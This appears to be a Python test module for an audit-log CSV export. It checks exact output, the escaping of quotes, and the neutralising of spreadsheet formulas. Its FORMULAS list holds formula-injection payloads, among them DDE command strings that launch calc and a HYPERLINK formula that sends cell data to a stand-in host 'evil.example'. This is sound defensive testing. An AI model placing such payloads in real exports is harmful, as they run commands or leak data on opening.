"""Audit logs as files: what a spreadsheet makes of them."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from twisted.trial.unittest import TestCase

from wingthing.store.audit import OPERATOR, Entry
from wingthing.web.audit_answers import COLUMNS, csv_of, neutral, who, whose

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u00a0=1",
    "\ufeff=1",
    "\uff1dcmd",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    '";=1',
    "-2+3+cmd|' /C calc'!D2",
]
TEXT = st.text(max_size=30) | st.sampled_from(FORMULAS) | st.sampled_from(['"', '","', "a\r\nb", "\x00", "'"])


def entry(**fields: object) -> Entry:
    known: dict[str, object] = {
        "id": 1,
        "at": 1_800_000_000.9,
        "user_id": "ann",
        "account_name": "Ann",
        "actor": "ann",
        "who": "Ann",
        "action": "login",
        "subject": "",
        "address": "",
        "org_id": "",
    }
    return Entry(**(known | fields))  # type: ignore[arg-type]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


class CsvTests(TestCase):
    def test_the_file_to_the_byte(self) -> None:
        done = entry(subject='say "hi", twice', address="192.0.2.1")
        content = csv_of([done, entry(who="", actor="gone", user_id="left", account_name="")])
        self.assertEqual(
            content.decode(),
            '"time","who","action","subject","account_name","address","actor","account"\r\n'
            '"2027-01-15T08:00:00Z","Ann","login","say ""hi"", twice","Ann","192.0.2.1","ann","ann"\r\n'
            '"2027-01-15T08:00:00Z","gone","login","","left","","gone","left"\r\n',
        )

    def test_no_entries(self) -> None:
        self.assertEqual(read(csv_of([])), [list(COLUMNS)])

    def test_a_formula_is_text(self) -> None:
        for formula in FORMULAS:
            named = ("who", "actor", "action", "subject", "user_id", "account_name")
            fields = dict.fromkeys(named, formula)
            (_head, row) = read(csv_of([entry(**fields, address=formula)]))
            for cell in row[1:]:
                self.assertNotIn(cell.lstrip(" \u00a0\ufeff")[:1], {*"=+-@\t\r\n", "\uff1d"}, formula)
                self.assertTrue(cell == formula or cell == f"'{formula}")

    def test_what_is_none_stays_as_it_is(self) -> None:
        for text in ("", "login", "a=b", "ann@example.org", "192.0.2.1", "2001:db8::1", "a-b", "\u00e4"):
            self.assertEqual(neutral(text), text)

    @given(TEXT, TEXT, TEXT, TEXT)
    def test_a_reader_finds_what_was_written(
        self, name: str, action: str, subject: str, address: str
    ) -> None:
        content = csv_of([entry(who=name, action=action, subject=subject, address=address), entry()])
        (_head, row, after) = read(content)
        expected = [name or "ann", action, subject, "Ann", address, "ann", "ann"]
        self.assertEqual(row[1:], [neutral(cell) for cell in expected])
        self.assertEqual(after[1], "Ann", "no cell ends before its end")

    @given(st.text(alphabet=st.characters(codec=None)))
    def test_no_text_breaks_the_file(self, subject: str) -> None:
        csv_of([entry(subject=subject)])


class WhoTests(TestCase):
    def test_whose_account_it_is_about(self) -> None:
        self.assertEqual(whose(entry()), "Ann")
        self.assertEqual(whose(entry(account_name="")), "ann", "of who is removed there is the id alone")
        self.assertEqual(whose(entry(user_id="", account_name="")), "", "an organisation itself")

    def test_who_did_it(self) -> None:
        self.assertEqual(who(entry()), "Ann")
        self.assertEqual(who(entry(actor=OPERATOR, who="")), "the operator")
        self.assertEqual(who(entry(actor="u-1", who="")), "u-1")
